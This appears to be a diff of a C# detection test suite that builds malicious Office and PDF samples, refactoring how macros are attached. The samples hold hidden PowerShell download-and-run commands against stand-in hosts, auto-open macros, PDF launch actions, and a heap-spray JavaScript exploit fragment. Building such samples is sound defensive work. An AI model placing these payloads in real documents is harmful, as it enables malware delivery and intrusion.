@@ -19,18 +19,18 @@ public sealed class MacroDocuments : HeldOutTechnique
 
     public override IEnumerable<(string Name, byte[] Content)> Variants() =>
     [
-        ("offer.docm", OoxmlBuilder.Word().Part("word/vbaProject.bin", Project("ThisDocument", ChrShell)).Build()),
-        ("prices.xlsm", OoxmlBuilder.Excel().Part("xl/vbaProject.bin", Project("ThisWorkbook", Workbook)).Build()),
+        ("offer.docm", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", ChrShell)).Build()),
+        ("prices.xlsm", OoxmlBuilder.Excel().WithMacros(Project("ThisWorkbook", Workbook)).Build()),
         ("offer.doc", new VbaProjectBuilder().Module("ThisDocument", Wmi).AddTo(new OleFileBuilder().Stream("WordDocument", new byte[700]).Stream("1Table", Encoding.Unicode.GetBytes("cfg powershell -w hidden -c iex(irm http://192.0.2.134/d)")), "Macros").Build()),
         ("prices.xls", new VbaProjectBuilder().Module("Module1", Declare).AddTo(new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=ALERT(\"x\")", 0, 0, isMacroSheet: false)), "_VBA_PROJECT_CUR").Build()),
-        ("letter.dotm", OoxmlBuilder.Word().Part("word/vbaProject.bin", Project("NewMacros", Script)).Build()),
-        ("table.xlam", OoxmlBuilder.Excel().Part("xl/vbaProject.bin", Project("ThisWorkbook", Callback)).Build()),
+        ("letter.dotm", OoxmlBuilder.Word().WithMacros(Project("NewMacros", Script)).Build()),
+        ("table.xlam", OoxmlBuilder.Excel().WithMacros(Project("ThisWorkbook", Callback)).Build()),
         ("slides.ppam", OoxmlBuilder.Word().Part("ppt/vbaProject.bin", Project("Module1", ChrShell.Replace("AutoOpen", "Auto_Open", StringComparison.Ordinal))).Build()),
         ("old.doc", RenamedPackage()),
     ];
 
     // A package with macros under the old extension, as Word opens it all the same.
-    private static byte[] RenamedPackage() => OoxmlBuilder.Word().Part("word/vbaProject.bin", Project("ThisDocument", Workbook.Replace("Workbook_Open", "Document_Open", StringComparison.Ordinal))).Build();
+    private static byte[] RenamedPackage() => OoxmlBuilder.Word().WithMacros(Project("ThisDocument", Workbook.Replace("Workbook_Open", "Document_Open", StringComparison.Ordinal))).Build();
 
     private static byte[] Project(string module, string source) => new VbaProjectBuilder().Module(module, source).Build();
 }
@@ -104,7 +104,7 @@ public sealed class PdfFiles : HeldOutTechnique
         ("a.pdf", new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -c iex\\(irm http://192.0.2.170/p\\)) >> >>").Build()),
         ("b.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /Type /Action /S /Launch /F << /Type /Filespec /F (\\\\\\\\192.0.2.170\\\\s\\\\a.exe) >> >> >> >>").Build()),
         ("c.pdf", new PdfBuilder().Catalogue("/Names << /EmbeddedFiles << /Names [(i.docm) 6 0 R] >> >> /OpenAction << /S /Java#53cript /JS (this.exportDataObject({ cName: \"i.docm\", nLaunch: 2 });) >>")
-            .Add(6, "<< /Type /Filespec /F (i.docm) /EF << /F 7 0 R >> >>").Stream(7, "/Type /EmbeddedFile", OoxmlBuilder.Word().Part("word/vbaProject.bin", new VbaProjectBuilder().Module("A", "Sub AutoOpen()\nShell \"powershell -w hidden -c x\"\nEnd Sub\n").Build()).Build()).Build()),
+            .Add(6, "<< /Type /Filespec /F (i.docm) /EF << /F 7 0 R >> >>").Stream(7, "/Type /EmbeddedFile", OoxmlBuilder.Word().WithMacros(new VbaProjectBuilder().Module("A", "Sub AutoOpen()\nShell \"powershell -w hidden -c x\"\nEnd Sub\n").Build()).Build()).Build()),
         ("d.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /JavaScript /JS 6 0 R >>").Stream(6, "", "var sc=unescape('%u9090%u9090%u4141%u4141');var b=unescape('%u0c0c%u0c0c');while(b.length<0x40000)b+=b;var m=[];for(i=0;i<200;i++)m[i]=b+sc;Collab.getIcon(b+'_N.bundle');"u8.ToArray()).Build()),
         ("e.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /I 8 0 R >> >> /Contents 9 0 R /Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://192.0.2.171/docs/Invoice_0091.zip) >> >> ] >>")
             .Stream(8, "/Type /XObject /Subtype /Image /Width 1240 /Height 1754 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[3000], 0xFF, 0xD9]).Stream(9, "", "q 612 0 0 792 0 0 cm /I Do Q"u8.ToArray()).Build()),
